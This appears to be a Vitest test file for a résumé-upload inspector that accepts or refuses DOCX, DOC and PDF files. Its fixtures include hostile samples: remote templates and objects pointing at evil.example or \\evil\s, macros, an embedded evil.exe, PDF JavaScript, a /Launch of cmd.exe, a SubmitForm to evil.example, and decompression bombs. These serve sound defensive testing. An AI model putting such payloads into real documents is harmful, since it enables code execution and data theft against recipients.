/// <reference types="vite/types/importMeta.d.ts" />
/** What is taken as a résumé, and what is refused. The files in documents/ were saved by the programs in their names. */
import { strToU8, type Zippable } from 'fflate';
import { describe, expect, test } from 'vitest';
import { resumeMessages, type ResumeExtension } from '@/features/careers/rules';
import { inspectResume, problems } from '../../functions/resumes/inspect';
import { bytesOf, docx, joined, objectStream, ole, pdf, related, relations, types, zip } from './documents';

type Bytes = Uint8Array<ArrayBuffer>;
type Relation = Parameters<typeof related>[number];
const { notWord, locked, tooMuch, macros, remote, embedded, active, unreadable } = problems;
const MB = 1024 * 1024;

/** Returns the kind of an accepted file, or the message about a refused one. */
function inspect(bytes: Bytes, named?: ResumeExtension) {
  const inspected = inspectResume(bytes, named);
  return 'problem' in inspected ? inspected.problem : inspected.extension;
}

const saved = Object.entries(
  import.meta.glob<string>('./documents/*', { query: '?url&inline', import: 'default', eager: true }),
).map(([path, url]): [string, Bytes] => [
  path.replace('./documents/', ''),
  Uint8Array.fromBase64(url.split(',')[1] ?? ''),
]);

describe('documents saved by real programs', () => {
  test.each(saved)('%s is taken', (name, bytes) => {
    const extension = name.split('.').pop() as ResumeExtension;
    expect(inspect(bytes, extension)).toBe(extension);
    expect(inspect(bytes)).toBe(extension);
  });
});

describe('a file is what its first bytes say', () => {
  test.each<[string, Bytes, ResumeExtension, string]>([
    ['a byte order mark before a PDF', joined(bytesOf('\xef\xbb\xbf'), pdf()), 'pdf', 'pdf'],
    ['a DOCX named as a DOC', docx(), 'doc', 'docx'],
    ['HTML named as a DOC', bytesOf('\r\n<html><body>Elena Marsh</body></html>'), 'doc', notWord],
    ['a program named as a PDF', bytesOf('MZ\x90\0\x03'), 'pdf', resumeMessages.type],
    ['HTML before a PDF', joined(bytesOf('<script>alert(1)</script>\n'), pdf()), 'pdf', resumeMessages.type],
    ['a truncated DOCX', docx().slice(0, -30), 'docx', unreadable],
    ['a DOCX with a password', ole('EncryptionInfo', 'EncryptedPackage'), 'docx', locked],
  ])('%s', (_, bytes, named, outcome) => {
    expect(inspect(bytes, named)).toBe(outcome);
  });
});

const OWN_FILES = [
  'file:///C:\\Users\\Elena\\AppData\\Roaming\\Microsoft\\Templates\\Modern%20resume.dotx',
  'file:////Users/elena/Library/Templates/Resume.dotx',
  'file://localhost/Users/elena/Resume.dotx',
  'C:\\Templates\\Resume.dotx',
  'Normal.dotm',
];
const ELSEWHERE = [
  'https://evil.example/t',
  '&#x68;ttps://evil.example/t',
  '\\\\evil\\s',
  'file:////evil/s',
  '%5c%5cevil%5cs',
];
const LINKS = [
  'https://www.linkedin.com/in/elena?a=b&amp;c=%20',
  'Email:elena@example.com',
  '\\\\nas\\home\\certificate.pdf',
];

/** A document of Word Online, whose main part has another name. */
const renamed = (parts: Zippable) =>
  zip({
    '_rels/.rels': relations(['officeDocument', 'word/document2.xml']),
    'word/document2.xml': strToU8('<w:document/>'),
    'word/_rels/document2.xml.rels': relations(['hyperlink', 'https://elena.example', 'External']),
    ...parts,
  });

const utf16 = (xml: string) => bytesOf(`\xff\xfe${[...xml].map((sign) => `${sign}\0`).join('')}`);

/** A document with a chart, whose numbers are in a workbook. */
const withChart = (workbook: string) =>
  docx({
    'word/_rels/document.xml.rels': relations(['chart', 'charts/chart1.xml']),
    'word/charts/_rels/chart1.xml.rels': relations(['package', `../embeddings/${workbook}`]),
    [`word/embeddings/${workbook}`]: [zip({ 'xl/workbook.xml': strToU8('<workbook/>') }), { level: 0 }],
  });

describe('a DOCX is taken', () => {
  test.each<[string, Bytes]>([
    ['from Word Online, by its content type', renamed(types('word/document2.xml'))],
    ['with links of any scheme', related(...LINKS.map((link): Relation => ['hyperlink', link, 'External']))],
    ...OWN_FILES.map((target): [string, Bytes] => [
      `with the template ${target}`,
      related(['attachedTemplate', target, 'External']),
    ]),
    ['with a picture from an email', related(['image', 'cid:image001.png@01DBE0F4.1A2B3C40', 'External'])],
    ['with a chart', withChart('Microsoft_Excel_Worksheet.xlsx')],
    ...['<!-- made by a program --><a/>', '<!DOCTYPE a><a/>', '\xff'].map((xml): [string, Bytes] => [
      `with the data ${xml}`,
      docx({ 'customXml/item1.xml': bytesOf(xml) }),
    ]),
    ['with data in UTF-16', docx({ 'customXml/item1.xml': utf16('<?xml encoding="utf-16"?><a/>') })],
  ])('%s', (_, bytes) => {
    expect(inspect(bytes, 'docx')).toBe('docx');
  });
});

const MACROS = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';

describe('a DOCX is refused', () => {
  test.each<[string, Bytes, string]>([
    ['with macros', docx({ ...types(undefined, MACROS), 'word/vbaProject.bin': bytesOf('x') }), macros],
    ['with a page inside', related(['aFChunk', 'chunk.mht']), embedded],
    ['with a program as a package', related(['package', 'embeddings/evil.exe']), embedded],
    ...ELSEWHERE.map((target): [string, Bytes, string] => [
      `with the template ${target}`,
      related(['attachedTemplate', target, 'External']),
      remote,
    ]),
    ...(['image', 'oleObject'] as const).map((type): [string, Bytes, string] => [
      `with the ${type} of a server`,
      related([type, 'https://evil.example/t', 'External']),
      remote,
    ]),
    [
      'with relationships in UTF-16',
      docx({ 'word/_rels/document.xml.rels': utf16('<Relationship Type="x/frame" Target="http://evil"/>') }),
      unreadable,
    ],
    ['that unpacks to 101 MB', docx({ 'word/media/image1.png': new Uint8Array(101 * MB) }), tooMuch],
  ])('%s', (_, bytes, problem) => {
    expect(inspect(bytes, 'docx')).toBe(problem);
  });
});

describe('a DOC', () => {
  test.each<[string, Bytes, string]>([
    ['with macros is refused', ole('WordDocument', 'Macros', 'VBA'), macros],
    [
      'with a file of the Packager is refused',
      ole('WordDocument', 'ObjectPool', '\x01Ole10Native'),
      embedded,
    ],
  ])('%s', (_, bytes, outcome) => {
    expect(inspect(bytes, 'doc')).toBe(outcome);
  });
});

const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>';
const attachment = (name: string) =>
  `5 0 obj << /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >> >> endobj 6 0 obj << /Type /EmbeddedFile /Subtype /text#2Fxml /Length 4 >> stream\n<a/>\nendstream endobj`;

describe('a PDF is taken', () => {
  test.each<[string, Bytes]>([
    ['with a network path as its title', pdf('', { info: '/Title (\\\\\\\\nas\\\\home\\\\CV.doc)' })],
    [
      'with XML attached, as Europass does',
      pdf(attachment('europass.xml'), { catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>' }),
    ],
    [
      'with forbidden names in a string',
      pdf('3 0 obj (HTML/CSS/JavaScript, (/JS (x)) \\) /S /Launch 100%) endobj'),
    ],
    ['with names that only begin like that', pdf('3 0 obj << /JSX 1 /S /LaunchPad /JavaScripts 3 >> endobj')],
    [
      'with links to pages and files',
      pdf(
        '3 0 obj << /A << /S /URI /URI (file:///C:/a.pdf) >> >> endobj 4 0 obj << /A << /S /GoToR /F (papers.pdf) /D [0 /Fit] >> >> endobj',
      ),
    ],
    [
      'with a form',
      pdf('5 0 obj << /FT /Btn /A << /S /ResetForm >> >> endobj', {
        catalog: '/AcroForm << /Fields [5 0 R] /NeedAppearances true >>',
      }),
    ],
  ])('%s', (_, bytes) => {
    expect(inspect(bytes, 'pdf')).toBe('pdf');
  });
});

describe('a PDF is refused', () => {
  test.each<[string, Bytes, string]>([
    ['with a script', pdf(`3 0 obj ${SCRIPT} endobj`), active],
    ['with a program', pdf('3 0 obj << /S /Launch /F (cmd.exe) >> endobj'), active],
    ['with an escaped name', pdf('3 0 obj << /S /J#61va#53cript >> endobj'), active],
    [
      'with a form that sends itself',
      pdf('4 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj'),
      active,
    ],
    ['with a script in an object stream', pdf(objectStream(SCRIPT)), active],
    ['with a form with scripts of its own', pdf('', { catalog: '/AcroForm << /XFA [(a) 5 0 R] >>' }), active],
    [
      'that opens a page of the web',
      pdf('5 0 obj << /S /URI /URI (https://evil.example/) >> endobj', { catalog: '/OpenAction 5 0 R' }),
      active,
    ],
    ['whose objects unpack to 20 MB', pdf(objectStream('()'.repeat(10 * MB))), tooMuch],
  ])('%s', (_, bytes, problem) => {
    expect(inspect(bytes, 'pdf')).toBe(problem);
  });
});

describe('the worst files are given up, or checked, at once', () => {
  const filled = (unit: string) => bytesOf(`%PDF-1.7\n${unit.repeat(Math.ceil((5 * MB) / unit.length))}`);
  const many = (part: Bytes) => joined(pdf(), ...Array<Bytes>(Math.floor((5 * MB) / part.length)).fill(part));

  test.each<[string, () => Bytes]>([
    ['actions', () => filled('/AA<<5 0 R ')],
    ['object streams that are bombs', () => many(objectStream('()'.repeat(4 * MB)))],
    ['a part that is a bomb', () => docx({ 'word/a.rels': new Uint8Array(200 * MB) })],
  ])('%s', (_, build) => {
    const file = build();
    const start = performance.now();
    inspect(file);
    // They take up to half a second on an idle machine; work that grows with the square of the size takes minutes.
    expect(performance.now() - start).toBeLessThan(5000);
  });
});
